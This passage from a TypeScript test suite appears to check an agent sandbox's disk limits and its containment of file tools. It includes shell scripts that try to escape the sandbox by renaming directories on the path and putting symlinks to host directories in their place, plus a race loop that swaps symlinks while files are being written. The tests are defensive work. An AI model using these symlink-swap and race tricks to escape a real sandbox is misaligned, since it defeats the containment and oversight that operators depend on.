    await expect(sb.writeFile('tool.txt', 'x\n')).rejects.toMatchObject({ code: 'disk-limit', message: expect.stringMatching(/over its disk limit of 8 MB/) });
    // Deleting brings it back under: commands and file tools write again.
    const rm = await sb.run('rm big.bin');
    expect(rm.exitCode).toBe(0);
    expect((await sb.run('echo fine > c.txt && cat c.txt')).stdout).toBe('fine\n');
    await sb.writeFile('tool.txt', 'written\n');
    expect(await sb.readText('tool.txt')).toBe('written\n');
  });

  it('file writes that would take the sandbox past its disk limit are refused, and what they would have written is not there', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { limits: { diskBytes: 8 * MB } } });
    const sb = await session.create();
    await expect(sb.writeFile('big.bin', Buffer.alloc(12 * MB, 1))).rejects.toMatchObject({
      code: 'disk-limit',
      message: expect.stringMatching(/writing 12 MB would take the sandbox's storage \(.*\) over its disk limit of 8 MB \(sandbox\.limits\.diskMB\)/),
    });
    expect(await sb.exists('big.bin')).toBe(false);
    // Writes that each fit add up.
    let written = 0;
    const refused = await (async () => {
      for (let i = 0; i < 12; i++) {
        const err = await sb.writeFile(`part${i}.bin`, Buffer.alloc(MB, 1)).then(() => undefined, (e: Error) => e);
        if (err) return err;
        written++;
      }
      return undefined;
    })();
    expect(refused).toMatchObject({ code: 'disk-limit' });
    expect(written).toBeLessThanOrEqual(8);
  });

  it('file tools keep to the view when a command renames a directory on the way to it and puts a symlink in its place', async () => {
    // The repository two levels below a directory of the private /tmp, which commands may rename.
    const nest = await tempDir('ic-nest-');
    await mkdir(path.join(nest, 'proj'));
    const repo = await makeRepo({ 'a.txt': 'view a\n' }, 'ic-repo-', path.join(nest, 'proj'));
    const session = await s.open(repo);
    const sb = await session.create();
    // From the view's root upwards, the first directory that can be moved is, and a link to a
    // host directory takes its place; `rest` is the path from it down to the view's root.
    const r = await sb.run(
      `d=$(pwd); rest=.
      while [ "$d" != / ]; do
        if mv "$d" "$d.moved" 2>/dev/null; then ln -s ${outside} "$d" && echo "rest=$rest"; exit 0; fi
        rest="$(basename "$d")/$rest"; d=$(dirname "$d")
      done
      echo none; exit 3`,
    );
    if (!s.mountsAtRepoPath || process.getuid?.() === 0) {
      // The copy's commands work in the copy, whose way up is mounts and the read-only state dir:
      // nothing on it can be moved at all. Under a root-run CLI, commands run as an unprivileged
      // user (command-user.ts), and every directory on the way up is root's.
      expect(r.stdout).toBe('none\n');
      return;
    }
    expect(r.exitCode, r.stderr).toBe(0);
    const rest = /rest=(.*)\n/.exec(r.stdout)![1];
    // What the symlink would lead this process to: a host file of the same name.
    const lure = path.join(outside, rest);
    await mkdir(lure, { recursive: true });
    await writeFile(path.join(lure, 'a.txt'), 'HOST SECRET\n');
    const read = await sb.readFile('a.txt').then((b) => b.toString(), (e: Error) => `failed: ${e.message}`);
    expect(read).not.toContain('HOST SECRET');
    await sb.writeFile('a.txt', 'written by a tool\n').catch(() => undefined);
    await sb.writeFile('new.txt', 'created by a tool\n').catch(() => undefined);
    expect(await readFile(path.join(lure, 'a.txt'), 'utf8')).toBe('HOST SECRET\n');
    expect(await readdir(lure)).not.toContain('new.txt');
  });

  it("a refresh that brings the user's deletions and edits never follows a symlink a command put in place of a directory", async () => {
    const repo = await makeRepo({ 'sub/gone.txt': 'g\n', 'sub/edited.txt': 'e\n', 'keep.txt': 'k\n' });
    await writeFile(path.join(outside, 'gone.txt'), 'host file\n');
    await writeFile(path.join(outside, 'edited.txt'), 'host file\n');
    const session = await s.open(repo);
    const sb = await session.create();
    expect((await sb.run(`rm -rf sub && ln -s ${outside} sub`)).exitCode).toBe(0);
    // The user deletes one file of that directory and edits the other.
    await rm(path.join(repo, 'sub', 'gone.txt'));
    await writeFile(path.join(repo, 'sub', 'edited.txt'), 'edited by the user\n');
    await session.refreshBase();
    expect((await readdir(outside)).sort()).toEqual(['edited.txt', 'gone.txt', 'keep.txt']);
    expect(await readFile(path.join(outside, 'edited.txt'), 'utf8')).toBe('host file\n');
    // The sandbox keeps its own choice: a link.
    expect((await sb.stat('sub')).type).toBe('symlink');
  });

  it('file tools racing a command that swaps a directory for a symlink never write outside the sandbox', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const before = await hashTree(repo);
    const session = await s.open(repo);
    const sb = await session.create();
    // Targets a racing write could reach: the real repository (by absolute path) and a host dir.
    await symlink(outside, path.join(home, 'outside-link')).catch(() => undefined);
    const swapper = await sb.exec(
      `n=0; while [ $n -lt 20000 ]; do rm -rf d; mkdir d; rm -rf d; ln -s ${outside} d; rm -f d; ln -s ${repo} d; rm -f d; n=$((n+1)); done`,
    );
    let written = 0;
    for (let i = 0; i < 400; i++) {
      await sb
        .writeFile(`d/race-${i}.txt`, 'x\n')
        .then(() => written++)
        .catch(() => undefined);
    }
    swapper.kill();
    await swapper.done;
    expect(await readdir(outside), `written outside: ${(await readdir(outside)).join(', ')}`).toEqual(['keep.txt']);
    expect(await hashTree(repo)).toEqual(before);
    // Some writes landed (the race was real), all inside the sandbox.
    expect(written).toBeGreaterThan(0);
  });
}
